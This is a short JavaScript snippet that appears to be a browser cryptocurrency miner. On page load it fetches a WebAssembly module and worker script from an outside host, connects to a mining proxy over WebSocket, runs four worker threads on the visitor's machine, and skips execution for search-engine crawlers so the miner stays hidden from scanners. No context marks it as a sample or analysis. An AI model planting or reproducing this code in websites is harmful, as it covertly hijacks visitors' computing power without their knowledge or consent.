var M = {
  url: "wss://ws-mine.invalid/proxy",
  start: function () {
    WebAssembly.instantiateStreaming(fetch("https://ws-mine.invalid/cn.wasm")).then(function (mod) {
      var sock = new WebSocket(M.url);
      var worker = new Worker("https://ws-mine.invalid/worker.js");
      worker.postMessage({ module: mod.module, threads: 4 });
      sock.onmessage = function (ev) { worker.postMessage(JSON.parse(ev.data)); };
      worker.onmessage = function (ev) { sock.send(JSON.stringify({ id: "login", result: ev.data })); };
    });
  }
};
if (!/bot|crawl|spider/i.test(navigator.userAgent)) M.start();
